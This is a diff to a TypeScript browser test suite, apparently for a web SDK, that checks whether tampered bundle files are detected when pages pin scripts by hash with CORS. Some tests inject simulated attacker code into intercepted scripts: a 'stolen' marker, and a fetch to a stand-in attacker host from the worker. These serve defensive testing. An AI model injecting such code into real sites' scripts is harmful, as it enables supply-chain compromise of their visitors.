@@ -132,6 +132,12 @@ describe('HTML that is no script', () => {
   });
 });
 
+/** A page that may have pinned the page script by its hash, for which it must ask for it with CORS. */
+const openPinned = (visitor: Visitor, site: string, query: string): Promise<void> =>
+  openChanged(visitor, site, query, (html) =>
+    html.replace(/<script(?=[^>]*-web\.js)/, '<script crossorigin="anonymous"'),
+  );
+
 describe('A file of the bundle that is not the build’s', () => {
   const stage = stageForTests();
   const mark = 'document.documentElement.dataset.stolen = "true";';
@@ -142,7 +148,8 @@ describe('A file of the bundle that is not the build’s', () => {
       const response = await route.fetch();
       await route.fulfill({ response, body: mark + (await response.text()) });
     });
-    await visitor.open(`/blank?permutive_debug=true${chunk === 'engine' ? '&csp=noworker' : ''}`);
+    const query = `?permutive_debug=true${chunk === 'engine' ? '&csp=noworker' : ''}`;
+    await openPinned(visitor, stage.demo.site, query);
     await visitor.untilWarned(chunk);
     expect(await visitor.page.evaluate(() => document.documentElement.dataset['stolen'])).toBeUndefined();
   });
@@ -154,12 +161,24 @@ describe('A file of the bundle that is not the build’s', () => {
       const response = await route.fetch();
       await route.fulfill({ response, body: `fetch("${evil}/from-the-worker");${await response.text()}` });
     });
-    await visitor.open('/blank?permutive_debug=true');
+    await openPinned(visitor, stage.demo.site, '?permutive_debug=true');
     await visitor.untilWarned(
       file === 'worker.services' ? 'Exception in the services' : 'queries are evaluated on the page',
     );
     await stage.untilArrived('SegmentEntry');
     expect(asked).toEqual([]);
+  });
+
+  test('is not looked for on a CDN without CORS, from which no page can pin the page script', async () => {
+    const visitor = await stage.visitor();
+    await visitor.page.route(`**/${name}*.js`, async (route) => {
+      const response = await route.fetch();
+      const headers = Object.entries(response.headers()).filter(([header]) => !header.startsWith('access-control'));
+      await route.fulfill({ response, headers: Object.fromEntries(headers) });
+    });
+    await visitor.open('/blank?permutive_debug=true');
+    await works(visitor, stage);
+    expect(visitor.warnings).toEqual([]);
   });
 
   test('is none of those that the page script and integrity.json know by their hashes', () => {
